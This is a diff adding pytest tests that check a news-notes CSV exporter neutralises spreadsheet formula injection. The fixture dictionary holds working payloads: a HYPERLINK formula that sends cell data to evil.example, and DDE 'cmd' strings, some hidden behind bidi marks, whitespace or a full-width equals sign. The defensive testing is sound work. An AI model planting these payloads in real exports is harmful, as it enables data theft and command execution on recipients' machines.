@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import argparse
 import csv
+import dataclasses
 import io
 import json
 import os
@@ -107,6 +108,58 @@ def test_csv_parses_back_with_header_and_all_fields() -> None:
     assert records[1]["note"] == NOTES[1].note  # quotes, commas and newlines survive
     assert records[2]["arabic"] == AR3
     assert records[2]["date"] == ""
+
+
+HOSTILE_CELLS = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "arabic": "+cmd|' /C calc'!A0",
+    "note": "@SUM(1+1)",
+    "english": "-2+3+cmd|' /C calc'!A0",
+    "outlet": "\t=1+1",
+    "date": "\r=1+1",
+    "article": "  =evil.txt",                            # leading spaces are trimmed by some spreadsheets
+    "colour": "\u200f=1",                                # a right-to-left mark before the formula
+    "created": "\uff1dSUM(1)",                           # a full-width equals sign
+    "updated": "\n@x",
+}
+
+
+def test_csv_cells_never_start_a_formula() -> None:
+    """OWASP CSV injection: a passage or note starting with = + - @ (or tab/CR, after spaces or a
+    bidi mark) must open as text, not run; a plain negative number stays a number."""
+    n = ExportNote(
+        article_path=HOSTILE_CELLS["article"], title=HOSTILE_CELLS["title"], source=HOSTILE_CELLS["outlet"],
+        published=HOSTILE_CELLS["date"], color=HOSTILE_CELLS["colour"],
+        arabic=HOSTILE_CELLS["arabic"],
+        english=HOSTILE_CELLS["english"], note=HOSTILE_CELLS["note"],
+        entities=("=cmd|' /C calc'!A0", "SDF · قسد"),
+        created=HOSTILE_CELLS["created"], updated=HOSTILE_CELLS["updated"],
+    )
+    dash = dataclasses.replace(n, arabic="\u200f- " + AR2)  # Arabic after a right-to-left mark and a dash
+    safe = ExportNote("/n/a.txt", "-12.5", None, "-3", "yellow", "+7", "1e5", "-0.25", (), "", "")
+    rows = list(csv.reader(io.StringIO(export_csv([n, dash, safe]))))
+    record = dict(zip(rows[0], rows[1], strict=True))
+    for field, value in HOSTILE_CELLS.items():
+        assert record[field] == "'" + value, field  # the whole text kept, after the quote
+    assert record["entities"] == "'=cmd|' /C calc'!A0; SDF · قسد"
+    assert dict(zip(rows[0], rows[2], strict=True))["arabic"] == "'\u200f- " + AR2
+    numbers = dict(zip(rows[0], rows[3], strict=True))
+    assert (numbers["title"], numbers["date"], numbers["arabic"], numbers["english"], numbers["note"]) == \
+        ("-12.5", "-3", "+7", "1e5", "-0.25")
+    assert numbers["article"] == "/n/a.txt" and numbers["colour"] == "yellow"
+    for cells in rows[1:]:  # nothing a spreadsheet would evaluate
+        for cell in cells:
+            first = cell.lstrip(" \n\u200f")[:1]
+            assert first not in ("=", "+", "-", "@", "\t", "\r", "\uff1d") or re.fullmatch(r"[+-][0-9.e]+", cell)
+
+
+@pytest.mark.parametrize(("cell", "expected"), [
+    ("-12.5", "-12.5"), ("+3", "+3"), ("-", "'-"), ("- بند أول", "'- بند أول"), ("--1", "'--1"),
+    ("-1-1", "'-1-1"), ("-١٢", "'-١٢"), ("@", "'@"), ("", ""), ("   ", "   "), ("قال: =1", "قال: =1"),
+    ("a=1", "a=1"), ("\u200e\u200f", "\u200e\u200f"),
+])
+def test_spreadsheet_safe(cell: str, expected: str) -> None:
+    assert export.spreadsheet_safe(cell) == expected
 
 
 def test_csv_file_has_bom_for_excel(tmp_path: Path) -> None:
